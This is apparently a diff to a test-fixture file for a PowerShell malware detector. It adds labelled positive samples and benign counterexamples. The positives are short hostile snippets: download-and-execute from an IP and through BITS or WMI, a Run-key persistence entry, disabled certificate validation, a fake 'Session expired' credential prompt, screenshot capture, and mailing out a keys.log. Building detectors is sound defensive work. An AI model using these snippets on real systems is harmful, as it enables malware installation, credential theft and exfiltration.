@@ -35,6 +35,18 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
         "'d.exe');Start-Process 'd.exe'\"",
     ),
     (
+        "PSH-001",
+        PS,
+        "Invoke-WebRequest -Uri http://198.51.100.7/p -OutFile C:\\Users\\Public\\p.exe;"
+        " C:\\Users\\Public\\p.exe",
+    ),
+    ("PSH-001", PS, "Start-BitsTransfer $u $env:TEMP\\b.exe; & $env:TEMP\\b.exe"),
+    (
+        "PSH-001",
+        PS,
+        "$wc.DownloadFile($u, $p); ([wmiclass]'win32_process').Create($p)",
+    ),
+    (
         "PSH-002",
         PS,
         "$c.DownloadFile($u, $p)\nStart-Process $env:PUBLIC\\svc.exe",
@@ -122,6 +134,22 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
         "$k::CreateRemoteThread($h, 0, 0, $r, 0, 0, 0)",
     ),
     (
+        "PSH-013",
+        PS,
+        "$b = $w.DownloadData($u)\n[IO.File]::WriteAllBytes($out, $b)\nStart-Process $out",
+    ),
+    (
+        "PSH-014",
+        PS,
+        "$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};"
+        "$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$_-bxor$S[($S[$I]+$S[$H])%256]}",
+    ),
+    (
+        "PSH-015",
+        PS,
+        "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}",
+    ),
+    (
         "PSH-020",
         PS,
         '$key = "HKCU:\\SOFTWARE\\Policies\\Microsoft\\Office\\16.0\\outlook\\security"\n'
@@ -153,6 +181,12 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
         ' "C:\\Users\\jdoe\\AppData\\Local\\Sync\\sync.exe"',
     ),
     (
+        "PSH-024",
+        PS,
+        "New-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name U"
+        " -Value 'powershell.exe -NoP -WindowStyle Hidden -File x.ps1'",
+    ),
+    (
         "PSH-025",
         PS,
         "$s = New-Object -ComObject Schedule.Service\n$s.Connect()\n$t = $s.NewTask(0)\n"
@@ -178,6 +212,24 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
         'while ($got = $in.Read($buf, 0, $size)) {\n  $part = "$prefix$n"\n'
         "  $out = [System.IO.File]::OpenWrite($part)\n  $out.Write($buf, 0, $got)\n"
         "  $out.Close()\n  $n += 1\n}",
+    ),
+    (
+        "PSH-029",
+        PS,
+        '$g.CopyFromScreen(0, 0, 0, 0, $bmp.Size)\n$bmp.Save("$env:APPDATA\\s$i.png")',
+    ),
+    (
+        "PSH-030",
+        PS,
+        "$c = $Host.UI.PromptForCredential('Session expired', 'Sign in again', $u, '')\n"
+        "$c.GetNetworkCredential().Password | Out-File $env:TEMP\\c.txt",
+    ),
+    (
+        "PSH-031",
+        PS,
+        "$m = New-Object Net.Mail.MailMessage($from, $to, 'log', 'log')\n"
+        '$m.Attachments.Add("$env:TEMP\\keys.log")\n'
+        "$s = New-Object Net.Mail.SmtpClient($server, 587)\n$s.Send($m)",
     ),
 )
 
@@ -269,6 +321,25 @@ BENIGN: tuple[tuple[Lang, str], ...] = (
         PS,
         "$json = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($embedded))\n"
         'Set-Content -Path "$env:APPDATA\\Tool\\settings.json" -Value $json',
+    ),
+    # An admin script passing a prompted password on to a database connection.
+    (
+        PS,
+        "$cred = Get-Credential -Message 'SQL login'\n"
+        "$pw = $cred.GetNetworkCredential().Password\n"
+        '$conn = New-Object System.Data.SqlClient.SqlConnection("Server=db;Password=$pw")',
+    ),
+    # A screenshot helper saving to the user's Pictures folder.
+    (
+        PS,
+        '$g.CopyFromScreen(0, 0, 0, 0, $bmp.Size)\n$bmp.Save("$HOME\\Pictures\\shot.png")',
+    ),
+    # A nightly report mailed from a share.
+    (
+        PS,
+        "$m = New-Object Net.Mail.MailMessage($from, $to, 'Report', 'Attached')\n"
+        "$m.Attachments.Add('\\\\fs01\\reports\\daily.csv')\n"
+        "(New-Object Net.Mail.SmtpClient('smtp.example.org')).Send($m)",
     ),
     # Parsing a PE header to report the machine type (no allocation, no loading).
     (
